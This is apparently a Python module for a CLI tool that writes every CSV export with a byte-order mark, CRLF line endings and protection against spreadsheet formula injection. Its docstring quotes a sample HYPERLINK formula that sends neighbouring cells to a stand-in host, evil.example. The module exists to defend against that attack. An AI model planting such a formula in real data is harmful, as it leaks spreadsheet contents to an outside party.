"""The one CSV writer of the CLI: every CSV Bazgasht prints or writes goes through it.

* **UTF-8 with a byte-order mark**, so Excel shows Persian (and every other non-Latin) name
  as written instead of mojibake. Rows end with CRLF (RFC 4180). Python reads it back with
  ``encoding="utf-8-sig"``.
* **No formulas from the store** (CSV injection, OWASP): a spreadsheet runs a cell that
  begins with ``=``, ``+``, ``-``, ``@``, tab or carriage return as a formula, so a customer
  named ``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` would turn the owner's export
  into a link that leaks its neighbouring cells. Such a text cell gets a leading ``'``,
  which spreadsheets show as nothing and read as "this is text".

How a legitimate ``-120`` is told apart from injected text: by what it is, not how it looks.
The numbers Bazgasht emits itself (points, counts, amounts, rates) are passed as numbers
(``int``, ``Decimal``, ``float``) and written as they are. Text — anything from the store,
and amounts already formatted as text — is escaped when it begins with a trigger, with one
exception: text that is nothing but a number or a phone number (digits, spaces and
``+ - ( ) .``, e.g. ``-120``, ``+98 912 123 4567``) is left alone. Such a cell cannot call a
function or reach outside the sheet, and a ``'`` in front of every international phone
number would break the SMS tools these files are made for.
"""

from __future__ import annotations

import csv
import io
import re
import sys
from collections.abc import Iterable, Sequence
from decimal import Decimal
from pathlib import Path

from cli._files import write_atomic

Cell = str | int | float | Decimal | None

BOM = "\ufeff"
#: What makes a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: Text that is only a number or a phone number: no formula can hide in it.
_NUMBER_OR_PHONE = re.compile(r"[+-]?[0-9][0-9 ().-]*")


def safe_cell(value: Cell) -> str:
    """One cell as written: numbers as they are, text neutralised if it could be a formula."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal):  # our own numbers (bool is not used)
        return str(value)
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS) and not _NUMBER_OR_PHONE.fullmatch(text):
        return "'" + text
    return text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """The whole file as text, byte-order mark included."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(header)
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return BOM + out.getvalue()


def print_csv(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> None:
    """Write the CSV to standard output, as UTF-8 whatever the locale says."""
    data = csv_text(header, rows)
    buffer = getattr(sys.stdout, "buffer", None)
    if buffer is None:  # a text-only stream (some test harnesses)
        sys.stdout.write(data)
        return
    sys.stdout.flush()
    buffer.write(data.encode("utf-8"))
    buffer.flush()


def write_csv(path: Path, header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> Path:
    """Write the CSV to ``path`` atomically, readable by its owner only (customers' data)."""
    return write_atomic(path, csv_text(header, rows).encode("utf-8"), private=True)


__all__ = ["BOM", "FORMULA_TRIGGERS", "Cell", "csv_text", "print_csv", "safe_cell", "write_csv"]
